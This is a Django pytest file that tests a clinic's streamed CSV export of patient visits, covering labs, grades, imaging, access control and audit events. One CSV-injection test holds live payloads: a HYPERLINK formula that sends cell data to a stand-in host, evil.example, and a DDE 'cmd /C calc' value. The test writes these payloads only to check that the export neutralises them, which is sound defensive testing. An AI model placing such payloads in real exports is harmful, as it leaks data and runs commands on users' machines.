"""A clinic's visits as CSV, streamed: one row per visit with flags, labs, grades and imaging."""

import csv
import dataclasses
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from checklists import services
from checklists.entries import ImagingEntry, VisitEntry
from checklists.models import Visit
from checklists.rules.flags import SAFETY_FLOOR
from tests.conftest import HIGH_MIRELS, TODAY, UNSTABLE_SINS, all_no, lab, visit_entry

from .helpers import assert_login_redirect, login

pytestmark = pytest.mark.django_db


def url(clinic):
    return reverse("checklists:visits-export", args=[clinic.pk])


def rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_exports_one_row_per_visit(nurse, patient, clinic_a, patient_b, outsider):
    entry = VisitEntry(
        visit_date=TODAY,
        answers=all_no(limb_weakness=True),
        labs=(lab("calcium_total", "3.2", "mmol/L"), lab("albumin", "30", "g/L"), lab("alp", "300", "U/L")),
        imaging=(ImagingEntry("mri", "whole spine", "emergency"),),
    )
    services.record_visit(patient=patient, seen_by=nurse, entry=entry)
    services.record_visit(patient=patient_b, seen_by=outsider, entry=VisitEntry(visit_date=TODAY, answers=all_no()))
    response = login(nurse).get(url(clinic_a))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.streaming
    (row,) = rows(response)
    assert row["mrn"] == "A001" and row["tier"] == "emergency"
    assert row["flag_codes"] == "ALP_ELEVATED HYPERCALCAEMIA_LAB MSCC_SUSPECTED"
    assert (row["calcium"], row["calcium_unit"], row["albumin"], row["albumin_unit"]) == ("3.2", "mmol/L", "30", "g/L")
    assert (row["alp"], row["alp_unit"]) == ("300", "U/L")
    assert (row["corrected_calcium"], row["corrected_calcium_unit"]) == ("3.4", "mmol/L")
    assert (row["corrected_calcium_converted"], row["corrected_calcium_converted_unit"]) == ("13.6", "mg/dL")
    assert (row["calcium_ctcae_grade"], row["alp_ctcae_grade"], row["alp_ratio"]) == ("3", "1", "2.041")
    assert row["imaging"] == "mri: whole spine (emergency)"


def test_another_clinic_is_404(outsider, clinic_a):
    assert login(outsider).get(url(clinic_a)).status_code == 404


def test_anonymous_goes_to_login(client, clinic_a):
    assert_login_redirect(client.get(url(clinic_a)), url(clinic_a))


def test_wrong_method(nurse, clinic_a):
    assert login(nurse).post(url(clinic_a)).status_code == 405


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_a_spreadsheet_would_run_are_neutralised(nurse, clinic_a, start):
    """A patient named =HYPERLINK(…) must open as text in Excel, not run (OWASP "CSV injection")."""
    from tests.conftest import make_patient

    evil = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    patient = make_patient(clinic_a, mrn=f"{start}cmd|' /C calc'!A0", family_name=evil, given_name="Eve")
    services.record_visit(patient=patient, seen_by=nurse, entry=VisitEntry(visit_date=TODAY, answers=all_no()))
    (row,) = rows(login(nurse).get(url(clinic_a)))
    assert row["family_name"] == "'" + evil
    assert row["mrn"].startswith("'" + start)
    assert row["given_name"] == "Eve"


def test_the_export_is_a_security_event(nurse, clinic_a):
    from checklists.models import SecurityEvent

    b"".join(login(nurse).get(url(clinic_a)).streaming_content)
    assert SecurityEvent.objects.filter(action="export_visits", clinic=clinic_a).count() == 1


def test_every_kind_of_visit_exports_every_column(nurse, doctor, patient, clinic_a):
    """Pins each column for a voided visit, a draft, scores, several orders, ionized calcium and a withdrawn flag,
    so the export can be read another way (issue 13: values per chunk, no model objects) and say the same."""
    nurse.first_name, nurse.last_name = "Nora", "Nurse"
    nurse.save()
    entry = VisitEntry(
        visit_date=TODAY - datetime.timedelta(days=3),
        answers=all_no(nausea=True),
        labs=(lab("calcium_ionized", "1.10", "mmol/L"),),
        imaging=(ImagingEntry("xray", "left femur", "urgent"), ImagingEntry("ct", "=chest", "routine")),
        mirels=HIGH_MIRELS,
        sins=UNSTABLE_SINS,
        complete=True,
    )
    ionized = services.record_visit(patient=patient, seen_by=nurse, entry=entry)
    assert "HYPERCALCAEMIA_SYMPTOMS" in {flag.code for flag in ionized.flags.all()}
    services.update_visit(
        visit=ionized,
        entry=dataclasses.replace(entry, answers=all_no()),
        lock_version=ionized.lock_version,
        by=doctor,
        reason="pain was old",
    )
    voided = services.record_visit(
        patient=patient,
        seen_by=doctor,
        entry=VisitEntry(visit_date=TODAY - datetime.timedelta(days=2), answers=all_no(), complete=True),
    )
    voided = services.void_visit(visit=voided, by=doctor, reason="wrong patient")
    services.record_visit(patient=patient, seen_by=nurse, entry=VisitEntry(visit_date=TODAY, answers={}))
    first, second, third = rows(login(nurse).get(url(clinic_a)))
    assert first["visit_date"] == (TODAY - datetime.timedelta(days=3)).isoformat()
    assert (first["status"], first["voided"], first["seen_by"]) == ("complete", "", "Nora Nurse")
    assert (first["calcium"], first["calcium_unit"], first["calcium_type"]) == ("1.1", "mmol/L", "ionized")
    assert (first["albumin"], first["alp"], first["corrected_calcium"]) == ("", "", "")
    assert first["imaging"] == "xray: left femur (urgent); ct: =chest (routine)"
    assert first["mirels"].startswith("1") and "(" in first["mirels"] and first["sins"].startswith("1")
    assert "HYPERCALCAEMIA_SYMPTOMS" not in first["flag_codes"]  # withdrawn on edit
    assert first["flag_codes"]  # the fracture-risk flags stay
    assert first["safety_questions_not_asked"] == "0"
    assert first["rules_version"] == ionized.rules_version
    assert (
        second["voided"]
        == f"Voided by {doctor} on {timezone.localtime(voided.voided_at):%Y-%m-%d %H:%M}: wrong patient"
    )
    assert (second["tier"], second["flag_codes"]) == ("none", "")
    assert (third["status"], third["tier"]) == ("draft", "draft: screen not complete")
    assert third["safety_questions_not_asked"] == str(len(SAFETY_FLOOR))
    assert third["calcium_type"] == ""


def test_the_export_reads_in_chunks_not_per_visit(nurse, patient, clinic_a):
    client = login(nurse)

    def queries_for(visits):
        for day in range(visits):
            services.record_visit(
                patient=patient,
                seen_by=nurse,
                entry=visit_entry(
                    visit_date=TODAY - datetime.timedelta(days=30 - day), labs=(lab("alp", "300", "U/L"),)
                ),
            )
        from django.db import connection
        from django.test.utils import CaptureQueriesContext

        with CaptureQueriesContext(connection) as captured:
            assert len(rows(client.get(url(clinic_a)))) == len(Visit.objects.filter(clinic=clinic_a))
        return len(captured)

    assert queries_for(2) == queries_for(5)
